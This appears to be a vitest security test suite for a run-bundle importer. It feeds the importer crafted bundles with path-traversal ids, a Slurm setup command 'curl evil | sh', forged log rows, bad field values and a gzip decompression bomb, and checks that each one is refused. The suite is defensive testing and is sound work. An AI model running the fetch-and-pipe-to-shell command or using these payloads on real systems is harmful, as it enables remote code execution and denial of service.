// Run bundle import against crafted files, one finding at a time: ids that would name folders
// outside the data folder, members that cannot be placed, rows aimed at other runs, values SQLite
// would choke on, and a small file that inflates past a gigabyte. Real files, real SQLite.
import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { constants, gzipSync } from 'node:zlib';
import { afterEach, describe, expect, it } from 'vitest';
import { insertRun, listRunLogs, getMetricSeries, getRun } from '../../src-main/db';
import { BundleImporter } from '../../src-main/services/bundle-import';
import { dataPaths } from '../../src-main/services/data-dir';
import { RunConfigSchema } from '../../shared/schemas/run-config';
import { StudioFailure } from '../../shared/result';
import { useTempDirs } from '../helpers/temp-dir';
import { bundleOf, DATASET, diffBytes, makeLibrary, rawBundle, rowCounts, runRecord, snapshot, validMembers, type Library } from './bundle-harness';

const temp = useTempDirs('distill-bundle-sec-');
let lib: Library | null = null;
afterEach(() => {
  lib?.close();
  lib = null;
});

function setup(limits?: Parameters<typeof makeLibrary>[1]): Library {
  lib = makeLibrary(temp(), limits);
  return lib;
}

function writeBundle(l: Library, bytes: Buffer, name = 'in.dsbundle'): string {
  const file = join(l.root, name);
  writeFileSync(file, bytes);
  return file;
}

async function refused(l: Library, file: string): Promise<StudioFailure> {
  const e = await Promise.resolve()
    .then(() => l.exports.importBundle(file))
    .then(
      () => null,
      (err: unknown) => err,
    );
  expect(e).toBeInstanceOf(StudioFailure);
  expect((e as Error).message).not.toMatch(/\n|SQLite|constraint|ENOENT|EISDIR/i);
  return e as StudioFailure;
}

const runFolders = (l: Library) => readdirSync(join(l.dataDir, 'runs')).sort();

describe('ids that would name folders outside the data folder', () => {
  it('refuses a run id with ../ and writes nothing outside (or inside) the data folder', async () => {
    const l = setup();
    const file = writeBundle(l, bundleOf(validMembers(runRecord({ id: '../../canary/evil' }))));
    const before = snapshot(l.root);
    const e = await refused(l, file);
    expect(e.message).toMatch(/run\.json.*id: must be a run id/);
    expect(diffBytes(before, snapshot(l.root)).entries).toEqual([]);
    expect(rowCounts(l.db).runs).toBe(1);
  });

  it("refuses the id '..' that would make delete wipe the data folder", async () => {
    const l = setup();
    const file = writeBundle(l, bundleOf(validMembers(runRecord({ id: '..' }))));
    await refused(l, file);
    expect(getRun(l.db, '..')).toBeUndefined();
    expect(existsSync(join(l.dataDir, 'report.json'))).toBe(false);
  });

  it('deleting an old row whose id escapes removes the row and no folder', () => {
    const l = setup();
    const config = RunConfigSchema.parse({ datasetId: DATASET.id, model: 'cnn', kind: 'teacher' });
    for (const id of ['..', '../../canary'])
      insertRun(l.db, {
        id,
        name: id,
        kind: 'teacher',
        status: 'completed',
        config,
        datasetId: DATASET.id,
        teacherRunId: null,
        seed: 1,
        createdAt: '2026-01-01T00:00:00.000Z',
      });
    const before = snapshot(l.root);
    expect(l.history.delete(['..', '../../canary'])).toEqual({ deleted: 2 });
    expect(diffBytes(before, snapshot(l.root)).entries).toEqual([]);
    expect(existsSync(join(l.dataDir, 'studio.db'))).toBe(true);
    expect(existsSync(join(l.canary, 'keep.txt'))).toBe(true);
  });
});

describe('all or nothing', () => {
  it('refuses a nested model member before any row is written', async () => {
    const l = setup();
    const members = [...validMembers(), { name: 'model/sub/x.bin', data: 'x' }];
    const e = await refused(l, writeBundle(l, bundleOf(members)));
    expect(e.message).toMatch(/unsafe or unknown name: "model\/sub\/x\.bin"/);
    expect(rowCounts(l.db).runs).toBe(1);
    expect(runFolders(l)).toEqual([l.existingId]);
  });

  it('imports a valid bundle into runs/<id> and leaves no staging folder; stale ones are removed', async () => {
    const l = setup();
    mkdirSync(join(l.dataDir, 'runs', '.import-dead-999999999'), { recursive: true });
    const run = runRecord();
    const imported = await l.exports.importBundle(writeBundle(l, bundleOf(validMembers(run))));
    expect(imported).toMatchObject({ id: run.id, status: 'completed', datasetId: DATASET.id, tags: ['t'] });
    expect(runFolders(l)).toEqual([l.existingId, run.id as string].sort());
    expect(readdirSync(join(l.dataDir, 'runs', run.id as string)).sort()).toEqual(['model', 'report.json']);
    expect(readdirSync(join(l.dataDir, 'runs', run.id as string, 'model')).sort()).toEqual(['model.json', 'weights.bin']);
    expect(getMetricSeries(l.db, run.id as string)['val/acc']!.value).toEqual([0.75]);
    expect(l.history.delete([run.id as string])).toEqual({ deleted: 1 });
    expect(runFolders(l)).toEqual([l.existingId]);
  });

  it('drops a Slurm executor and profile: a resumed imported run never runs the exporter’s shell', async () => {
    const l = setup();
    const config = RunConfigSchema.parse({
      datasetId: DATASET.id,
      model: 'cnn',
      kind: 'teacher',
      executor: 'slurm',
      slurm: { setup: 'curl evil | sh', workerCommand: 'sh -c x' },
    });
    const run = runRecord({ status: 'interrupted', config });
    await l.exports.importBundle(writeBundle(l, bundleOf(validMembers(run))));
    const stored = getRun(l.db, run.id as string)!.config;
    expect(stored).not.toHaveProperty('executor');
    expect(stored).not.toHaveProperty('slurm');
  });

  it('leaves nothing when the target folder is already taken', async () => {
    const l = setup();
    const run = runRecord();
    mkdirSync(join(l.dataDir, 'runs', run.id as string));
    const e = await refused(l, writeBundle(l, bundleOf(validMembers(run))));
    expect(e.code).toBe('conflict');
    expect(rowCounts(l.db).runs).toBe(1);
  });

  it('removes the committed row again when the folder cannot be moved into place', async () => {
    const l = setup();
    const importer = new BundleImporter({
      db: l.db,
      runDir: dataPaths(l.dataDir).runDir,
      move: () => {
        throw Object.assign(new Error('cross-device link'), { code: 'EXDEV' });
      },
    });
    const e = await importer.importBundle(writeBundle(l, bundleOf(validMembers()))).then(
      () => null,
      (err: unknown) => err,
    );
    expect(e).toBeInstanceOf(StudioFailure);
    expect((e as Error).message).toMatch(/could not move the imported files into place \(EXDEV\); nothing was imported/);
    expect(rowCounts(l.db)).toEqual({ runs: 1, metrics: 1, logs: 1 });
    expect(runFolders(l)).toEqual([l.existingId]);
  });
});

describe('rows aimed at other runs', () => {
  it('stores log rows under the imported run whatever runId they carry', async () => {
    const l = setup();
    const run = runRecord();
    const members = validMembers(run).map((m) =>
      m.name === 'logs.json'
        ? {
            name: m.name,
            data: JSON.stringify([
              { runId: l.existingId, level: 'error', message: 'forged', time: 't' },
              { runId: 'no-such-run', level: 'info', message: 'x', time: 't' },
            ]),
          }
        : m,
    );
    await l.exports.importBundle(writeBundle(l, bundleOf(members)));
    expect(listRunLogs(l.db, l.existingId, 100).map((r) => r.message)).toEqual(['original line']);
    expect(listRunLogs(l.db, run.id as string, 100).map((r) => r.message)).toEqual(['forged', 'x']);
    expect(getMetricSeries(l.db, l.existingId)['val/acc']!.value).toEqual([0.5]);
  });
});

describe('values SQLite would refuse', () => {
  it.each([
    ['seed', { seed: 'x' }, /run\.json.*run\.seed/],
    ['status', { status: 'pwned' }, /run\.json.*run\.status/],
    ['createdAt', { createdAt: 12 }, /run\.json.*run\.createdAt/],
    ['dataset id', { datasetId: '../x' }, /run\.json.*run\.datasetId/],
    ['tags', { tags: { a: 1 } }, /run\.json.*run\.tags/],
  ])('refuses a bad %s in run.json with a readable message', async (_what, over, message) => {
    const l = setup();
    const e = await refused(l, writeBundle(l, bundleOf(validMembers(runRecord(over)))));
    expect(e.message).toMatch(message);
    expect(rowCounts(l.db)).toEqual({ runs: 1, metrics: 1, logs: 1 });
    expect(runFolders(l)).toEqual([l.existingId]);
  });
});

describe('decompression bombs', () => {
  it('refuses a ~1 MB gzip that would inflate past 1 GiB, quickly and with bounded memory', async () => {
    const l = setup();
    // Multi-member gzip: a valid prefix claiming a 900 MiB weights file, then 64 MiB blocks of zeros.
    const claimed = 900 * 1024 * 1024;
    const prefix = gzipSync(
      rawBundle(
        {
          files: [
            { name: 'run.json', size: 2 },
            { name: 'model/weights.bin', size: claimed },
          ],
        },
        [Buffer.from('{}')],
      ),
    );
    const zeros = gzipSync(Buffer.alloc(64 * 1024 * 1024), { level: constants.Z_BEST_COMPRESSION });
    const bomb = Buffer.concat([prefix, ...Array.from({ length: 20 }, () => zeros)]);
    expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
    const file = writeBundle(l, bomb);
    global.gc?.();
    const rss0 = process.memoryUsage().rss;
    let peak = rss0;
    let lag = 0;
    let last = Date.now();
    const timer = setInterval(() => {
      const now = Date.now();
      lag = Math.max(lag, now - last - 5);
      last = now;
      peak = Math.max(peak, process.memoryUsage().rss);
    }, 5);
    const t0 = Date.now();
    const e = await refused(l, file);
    const ms = Date.now() - t0;
    clearInterval(timer);
    lag = Math.max(lag, Date.now() - last - 5);
    peak = Math.max(peak, process.memoryUsage().rss);
    console.log(
      `bundle bomb: ${bomb.length} bytes compressed (would inflate to ${1280} MiB): refused in ${ms} ms, RSS +${Math.round((peak - rss0) / 1048576)} MB, longest event-loop stall ${lag} ms`,
    );
    expect(e.message).toMatch(/inflates beyond 200 times its compressed size: refused/);
    expect(ms).toBeLessThan(5000);
    expect(peak - rss0).toBeLessThan(200 * 1024 * 1024);
    expect(runFolders(l)).toEqual([l.existingId]);
  });

  it('refuses a 70,000-entry manifest without creating files', async () => {
    const l = setup();
    const files = Array.from({ length: 70_000 }, (_, i) => ({ name: `model/f${i}`, size: 0 }));
    const e = await refused(l, writeBundle(l, gzipSync(rawBundle({ files }))));
    expect(e.message).toMatch(/more than the (1000 allowed|\d+ allowed)/);
    expect(runFolders(l)).toEqual([l.existingId]);
  });

  it('refuses a file that is not a regular file', async () => {
    const l = setup();
    const e = await refused(l, '/dev/zero');
    expect(e.message).toMatch(/not a regular file/);
  });
});
